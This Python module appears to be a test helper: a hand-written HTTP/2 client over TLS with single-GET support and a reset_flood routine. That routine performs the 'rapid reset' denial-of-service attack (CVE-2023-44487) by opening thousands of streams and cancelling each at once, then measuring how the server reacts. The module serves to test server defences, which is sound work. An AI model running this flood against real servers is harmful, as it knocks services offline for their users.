"""A raw HTTP/2 client for tests: hand-written frames over TLS (ALPN h2), stdlib only.

What a client must send is small: the preface, SETTINGS, HEADERS with an HPACK block made of
"literal header field without indexing" entries (no Huffman), RST_STREAM, WINDOW_UPDATE and
the ACKs. That is all here, so a test can do what a well-behaved library refuses to: open
thousands of streams and reset each at once ("rapid reset", CVE-2023-44487).

    conn = H2Conn(port, sni, ca, source="127.0.0.2")   # source: bind the client address
    res = conn.reset_flood(["/a", "/b"] * 2500, authority=sni)
    res.goaway          # None, or Goaway(error_code, last_stream_id, at, pairs_sent)
    res.answered        # streams that got a response HEADERS

    r = get(port, sni, ca, "/gen/x?size=1000")   # one GET, whole body read
    r.status, r.body

Responses are not HPACK-decoded beyond :status (the server's Huffman strings are not needed by
the tests; the status is read from the static table or a literal of digits).
"""

import bisect
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20

NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, STREAM_CLOSED, \
    FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, CONNECT_ERROR, \
    ENHANCE_YOUR_CALM = range(12)

SETTINGS_HEADER_TABLE_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS = 0x1, 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE, SETTINGS_MAX_HEADER_LIST_SIZE = 0x5, 0x6
MAX_WINDOW = (1 << 31) - 1


# --- encoding -------------------------------------------------------------------------------


def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    head = struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF)
    return head + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path, authority, method="GET", headers=()):
    block = b"".join(hpack_literal(k, v) for k, v in
                     ((":method", method), (":scheme", "https"), (":authority", authority),
                      (":path", path)))
    return block + b"".join(hpack_literal(k.lower(), v) for k, v in headers)


def headers_frame(stream_id, path, authority, headers=(), end_stream=True):
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return frame(HEADERS, flags, stream_id, request_block(path, authority, headers=headers))


def rst_frame(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def settings_frame(settings=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in settings))


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def data_frame(stream_id, data=b"", end_stream=False, pad_length=None, padding=None):
    """DATA; pad_length: the PADDED flag with that Pad Length octet, followed by `padding`
    bytes of padding (default: pad_length of them; fewer make the frame malformed)."""
    flags = END_STREAM if end_stream else 0
    if pad_length is None:
        return frame(DATA, flags, stream_id, data)
    pad = b"\0" * (pad_length if padding is None else padding)
    return frame(DATA, flags | PADDED, stream_id, bytes([pad_length]) + data + pad)


def ping_frame(opaque=b"\0" * 8, ack=False):
    return frame(PING, ACK if ack else 0, 0, opaque)


def hpack_indexed(index):
    """Indexed header field (RFC 7541 6.1): static 1..61, dynamic from 62."""
    return hpack_int(index, 7, 0x80)


def hpack_literal_indexed(name, value):
    """Literal header field with incremental indexing, new name (RFC 7541 6.2.1): the field
    enters the decoder's dynamic table as index 62."""
    name, value = name.encode(), value.encode()
    return b"\x40" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


# --- decoding -------------------------------------------------------------------------------

STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
# RFC 7541 Appendix B, the codes of the ten digits (all a status can hold).
HUFFMAN_DIGITS = {(0b00000, 5): "0", (0b00001, 5): "1", (0b00010, 5): "2",
                  (0b011001, 6): "3", (0b011010, 6): "4", (0b011011, 6): "5",
                  (0b011100, 6): "6", (0b011101, 6): "7", (0b011110, 6): "8",
                  (0b011111, 6): "9"}


def _read_int(block, pos, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value = block[pos] & limit
    pos += 1
    if value < limit:
        return value, pos
    shift = 0
    while True:
        b = block[pos]
        pos += 1
        value += (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            return value, pos


def _huffman_digits(data):
    bits = "".join(f"{b:08b}" for b in data)
    out, code, n = "", 0, 0
    for c in bits:
        code, n = (code << 1) | (c == "1"), n + 1
        if (code, n) in HUFFMAN_DIGITS:
            out += HUFFMAN_DIGITS[(code, n)]
            code, n = 0, 0
        elif n > 6:
            break  # padding (all ones) or not a digit
    return out


def status_of(block):
    """:status from a response header block: the first field, as servers put it."""
    if not block:
        return None
    b = block[0]
    if b & 0x80:  # indexed
        idx, _ = _read_int(block, 0, 7)
        return STATIC_STATUS.get(idx)
    prefix = 6 if b & 0x40 else 4
    idx, pos = _read_int(block, 0, prefix)
    if idx not in range(8, 15):
        return None
    huffman = block[pos] & 0x80
    length, pos = _read_int(block, pos, 7)
    raw = block[pos:pos + length]
    text = _huffman_digits(raw) if huffman else raw.decode("latin-1")
    return int(text) if text.isdigit() else None


class Goaway:
    def __init__(self, error_code, last_stream_id, at, pairs_sent, debug=b""):
        self.error_code, self.last_stream_id, self.at = error_code, last_stream_id, at
        self.pairs_sent, self.debug = pairs_sent, debug

    def __repr__(self):
        return (f"Goaway(error_code={self.error_code:#x}, last_stream_id={self.last_stream_id}, "
                f"at={self.at:.3f}s, pairs_sent={self.pairs_sent})")


class FloodResult:
    def __init__(self):
        self.pairs = 0            # HEADERS + RST_STREAM pairs we meant to send
        self.pairs_sent = 0       # ... and wrote to the socket before it closed
        self.bytes_sent = 0
        self.send_seconds = 0.0   # time to write them
        self.goaway = None        # Goaway, or None
        self.answered = 0         # streams that got a response HEADERS
        self.statuses = {}        # status -> count (those we could read)
        self.rst_received = 0     # RST_STREAM frames from the server
        self.data_bytes = 0
        self.closed = False       # the server closed the connection (EOF or reset)
        self.seconds = 0.0        # from the first byte of the flood to the end of reading

    def __repr__(self):
        return (f"FloodResult(pairs={self.pairs}, sent={self.pairs_sent}, "
                f"bytes_sent={self.bytes_sent}, send={self.send_seconds:.3f}s, "
                f"goaway={self.goaway}, answered={self.answered}, statuses={self.statuses}, "
                f"rst={self.rst_received}, data={self.data_bytes}, closed={self.closed}, "
                f"seconds={self.seconds:.3f})")


class Response:
    def __init__(self):
        self.status = None
        self.body = b""         # the body (empty when get(keep_body=False))
        self.body_size = 0      # body bytes received
        self.complete = False   # END_STREAM seen
        self.reset = None       # RST_STREAM error code from the server
        self.goaway = None

    def __repr__(self):
        return (f"Response(status={self.status}, body={self.body_size}B, "
                f"complete={self.complete}, reset={self.reset}, goaway={self.goaway})")


# --- the connection -------------------------------------------------------------------------


class H2Conn:
    """One client connection. source: local address to bind (e.g. "127.0.0.2")."""

    def __init__(self, port, sni, ca=None, host="127.0.0.1", source=None, timeout=10.0,
                 initial_window=MAX_WINDOW, connection_window=MAX_WINDOW):
        ctx = ssl.create_default_context(cafile=ca) if ca else ssl._create_unverified_context()
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=timeout,
                                       source_address=(source, 0) if source else None)
        # Frames go out when written: Nagle would hold a record's tail for the peer's ACK.
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            self.sock = ctx.wrap_socket(raw, server_hostname=sni)
        except BaseException:
            raw.close()
            raise
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise AssertionError(f"ALPN chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.sni = sni
        self.timeout = timeout
        self.inbuf = bytearray()
        self.inpos = 0
        self.received = 0  # bytes read from the socket (after TLS)
        self.closed = False
        self.goaway = None
        self.next_stream = 1
        self.t0 = time.monotonic()
        self.pair_ends = []  # flood: byte offset where each pair ends (for pairs_sent)
        self.sent = 0
        # Our windows wide open by default: the tests read everything the server sends. A
        # client that never reads passes initial_window=0 and connection_window=65535.
        self.sock.sendall(PREFACE + settings_frame([(SETTINGS_INITIAL_WINDOW_SIZE, initial_window)])
                          + (window_update(0, connection_window - 65535)
                             if connection_window > 65535 else b""))
        self._wait_for_settings()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    # Frames in: returns (type, flags, stream id, payload) or None when nothing complete yet.
    # inbuf is consumed from inpos and compacted now and then, so a large body costs no copy
    # of everything behind each frame.
    def _next_frame(self):
        avail = len(self.inbuf) - self.inpos
        if avail < 9:
            return None
        hi, lo, ftype, flags, sid = struct.unpack_from(">BHBBI", self.inbuf, self.inpos)
        n = (hi << 16) | lo
        if avail < 9 + n:
            return None
        start = self.inpos + 9
        payload = bytes(self.inbuf[start:start + n])
        self.inpos = start + n
        if self.inpos == len(self.inbuf) or (self.inpos > (1 << 20) and
                                             self.inpos * 2 > len(self.inbuf)):
            del self.inbuf[:self.inpos]
            self.inpos = 0
        return ftype, flags, sid & 0x7FFFFFFF, payload

    def _recv_some(self, wait):
        """Reads what is there (waiting up to `wait` s); False once the connection is over."""
        if self.closed:
            return False
        if not self.sock.pending():
            r, _, _ = select.select([self.sock], [], [], wait)
            if not r:
                return True
        try:
            data = self.sock.recv(1 << 20)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return True
        except (ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False
        if not data:
            self.closed = True
            return False
        self.inbuf += data
        self.received += len(data)
        return True

    def _control(self, ftype, flags, sid, payload):
        """Answers what the protocol requires; records GOAWAY. True if the frame was control."""
        if ftype == SETTINGS:
            if not flags & ACK:
                self._send_quiet(settings_frame(ack=True))
            return True
        if ftype == PING:
            if not flags & ACK:
                self._send_quiet(frame(PING, ACK, 0, payload))
            return True
        if ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            if self.goaway is None:
                i = bisect.bisect_right(self.pair_ends, self.sent)
                self.goaway = Goaway(code, last & 0x7FFFFFFF, time.monotonic() - self.t0, i,
                                     payload[8:])
            return True
        return ftype in (WINDOW_UPDATE, PRIORITY)

    def _send_quiet(self, data):
        if self.closed:
            return
        blocking = self.sock.getblocking()
        try:
            self.sock.setblocking(True)
            self.sock.sendall(data)
        except OSError:
            pass
        finally:
            self.sock.setblocking(blocking)

    def _wait_for_settings(self):
        deadline = time.monotonic() + self.timeout
        while time.monotonic() < deadline:
            f = self._next_frame()
            if f is None:
                if not self._recv_some(0.5):
                    raise AssertionError("connection closed before the server's SETTINGS")
                continue
            self._control(*f)
            if f[0] == SETTINGS and not f[1] & ACK:
                return
        raise AssertionError("no SETTINGS from the server")

    # --- frames on demand -----------------------------------------------------------------

    def send(self, *frames):
        """Writes frames as they are (blocking); False if the connection is gone."""
        try:
            self.sock.sendall(b"".join(frames))
            return True
        except OSError:
            self.closed = True
            return False

    def open_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def read_frames(self, quiet=1.0, until=None, timeout=None):
        """Frames the server sends, as (type, flags, stream id, payload), control frames
        included (SETTINGS and PING are answered, GOAWAY recorded in self.goaway). Reads until
        the connection closes, until(frame) holds, `quiet` seconds pass with nothing new, or
        `timeout` (default self.timeout) in all."""
        out = []
        deadline = time.monotonic() + (timeout or self.timeout)
        last_news = time.monotonic()
        while time.monotonic() < deadline:
            f = self._next_frame()
            if f is None:
                before = self.received
                if not self._recv_some(0.1):
                    break
                if self.received != before:
                    last_news = time.monotonic()
                elif time.monotonic() - last_news > quiet:
                    break
                continue
            self._control(*f)
            out.append(f)
            if until is not None and until(f):
                break
        return out

    # --- the flood ---------------------------------------------------------------------------

    def reset_flood(self, paths, authority=None, headers=(), read_after=5.0, chunk=64 * 1024):
        """For each path: HEADERS (END_STREAM) then RST_STREAM(CANCEL) at once, written in
        chunks of many frames as fast as the socket takes them, reading meanwhile. Then reads
        until the server closes, or read_after seconds pass with nothing new."""
        authority = authority or self.sni
        res = FloodResult()
        parts, ends, total = [], [], 0
        for p in paths:
            sid = self.next_stream
            self.next_stream += 2
            pair = headers_frame(sid, p, authority, headers) + rst_frame(sid)
            parts.append(pair)
            total += len(pair)
            ends.append(total)
        data = b"".join(parts)
        res.pairs = len(paths)
        self.pair_ends, self.sent = ends, 0
        self.t0 = time.monotonic()
        answered = set()
        self.sock.setblocking(False)
        try:
            send_done = None
            last_news = time.monotonic()
            while True:
                if self.sent < len(data) and not self.closed:
                    piece = data[self.sent:self.sent + chunk]
                    try:
                        self.sent += self.sock.send(piece)
                    except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                        select.select([self.sock], [self.sock], [], 0.05)
                    except (ConnectionError, OSError):
                        self.closed = True
                    if self.sent >= len(data) or self.closed:
                        send_done = time.monotonic()
                got_before = self.received
                alive = self._recv_some(0 if self.sent < len(data) and not self.closed else 0.2)
                if self.received != got_before:
                    last_news = time.monotonic()
                while (f := self._next_frame()) is not None:
                    ftype, flags, sid, payload = f
                    if self._control(ftype, flags, sid, payload):
                        continue
                    if ftype == HEADERS:
                        if sid not in answered:
                            answered.add(sid)
                            st = status_of(_header_block(flags, payload))
                            res.statuses[st] = res.statuses.get(st, 0) + 1
                    elif ftype == DATA:
                        res.data_bytes += len(payload)
                    elif ftype == RST_STREAM:
                        res.rst_received += 1
                if not alive:
                    break
                if (self.sent >= len(data) or self.closed) and \
                        time.monotonic() - last_news > read_after:
                    break
        finally:
            self.sock.setblocking(True)
        res.pairs_sent = bisect.bisect_right(ends, self.sent)
        res.bytes_sent = self.sent
        res.send_seconds = (send_done or time.monotonic()) - self.t0
        res.goaway = self.goaway
        res.answered = len(answered)
        res.closed = self.closed
        res.seconds = time.monotonic() - self.t0
        return res

    # --- one request ---------------------------------------------------------------------------

    def get(self, path, authority=None, headers=(), timeout=None, keep_body=True):
        """GET path on a new stream and read its whole response; keep_body=False only counts
        the body's bytes (large objects)."""
        sid = self.next_stream
        self.next_stream += 2
        self._send_quiet(headers_frame(sid, path, authority or self.sni, headers))
        resp = Response()
        body = bytearray()
        block = b""
        deadline = time.monotonic() + (timeout or self.timeout)
        while time.monotonic() < deadline:
            f = self._next_frame()
            if f is None:
                if not self._recv_some(0.5):
                    break
                continue
            ftype, flags, fsid, payload = f
            if self._control(ftype, flags, fsid, payload):
                if self.goaway is not None and sid > self.goaway.last_stream_id:
                    break
                continue
            if fsid != sid:
                continue
            if ftype in (HEADERS, CONTINUATION):
                block += _header_block(flags, payload) if ftype == HEADERS else payload
                if flags & END_HEADERS and resp.status is None:
                    resp.status = status_of(block)
            elif ftype == DATA:
                chunk = _data_payload(flags, payload)
                resp.body_size += len(chunk)
                if keep_body:
                    body += chunk
            elif ftype == RST_STREAM:
                resp.reset = struct.unpack(">I", payload[:4])[0]
                break
            if flags & END_STREAM and ftype in (HEADERS, DATA):
                resp.complete = True
                break
        resp.body = bytes(body)
        resp.goaway = self.goaway
        return resp


def rst_codes(frames, stream_id):
    """Error codes of the RST_STREAM frames for stream_id among frames."""
    return [struct.unpack(">I", p[:4])[0] for t, _, sid, p in frames
            if t == RST_STREAM and sid == stream_id]


def statuses(frames, stream_id):
    """:status of each response HEADERS on stream_id (one header block per frame assumed)."""
    return [status_of(_header_block(fl, p)) for t, fl, sid, p in frames
            if t == HEADERS and sid == stream_id]


def _header_block(flags, payload):
    pos, end = 0, len(payload)
    if flags & PADDED:
        end -= payload[0]
        pos = 1
    if flags & PRIORITY_FLAG:
        pos += 5
    return payload[pos:end]


def _data_payload(flags, payload):
    if flags & PADDED:
        return payload[1:len(payload) - payload[0]]
    return payload


# --- helpers --------------------------------------------------------------------------------


def reset_flood(port, sni, ca, paths, source=None, authority=None, read_after=5.0, timeout=10.0):
    """One connection, one flood (see H2Conn.reset_flood)."""
    with H2Conn(port, sni, ca, source=source, timeout=timeout) as c:
        return c.reset_flood(paths, authority=authority, read_after=read_after)


def get(port, sni, ca, path, source=None, authority=None, headers=(), timeout=30.0,
        keep_body=True):
    """One GET on a fresh connection, the whole response read (see H2Conn.get)."""
    with H2Conn(port, sni, ca, source=source, timeout=timeout) as c:
        return c.get(path, authority=authority, headers=headers, timeout=timeout,
                     keep_body=keep_body)
